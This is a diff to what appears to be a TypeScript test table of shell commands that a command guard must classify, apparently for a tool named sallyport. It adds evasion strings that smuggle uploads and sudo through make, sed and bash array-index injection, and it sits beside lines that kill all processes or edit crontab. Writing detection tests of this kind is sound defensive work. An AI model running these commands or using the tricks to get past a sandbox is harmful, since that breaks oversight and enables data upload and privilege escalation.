@@ -41,7 +41,11 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
     'curl https://registry.npmjs.org/x | patch -p1',
     'curl https://registry.npmjs.org/x | tar xz',
   ],
-  'shell/upload': ["x='a[$(curl -T f u)]'; ((x))", 'curl -X Post https://registry.npmjs.org/x'],
+  'shell/upload': [
+    "make --eval='$(shell curl -T f u)'",
+    "x='a[$(curl -T f u)]'; ((x))",
+    'curl -X Post https://registry.npmjs.org/x',
+  ],
   'audit/tamper': [
     'kill -9 -1',
     'pkill sallyport',
@@ -210,6 +214,12 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
     '(crontab -l; echo x) | crontab -',
   ],
   'shell/privilege': [
+    "x='a[$(sudo id)]'; let x",
+    "echo 'e sudo id' | sed -f /dev/stdin x",
+    "sed -f - x <<< 'e sudo id'",
+    "make 'CC=$(shell sudo id)'",
+    "make --eva='x:;sudo id'",
+    "make -f /dev/stdin <<< 'x:;sudo id'",
     "ag --pager 'sudo id' x",
     "tar cIf 'sudo id' x y",
     'npm run x --script-shell=sudo',
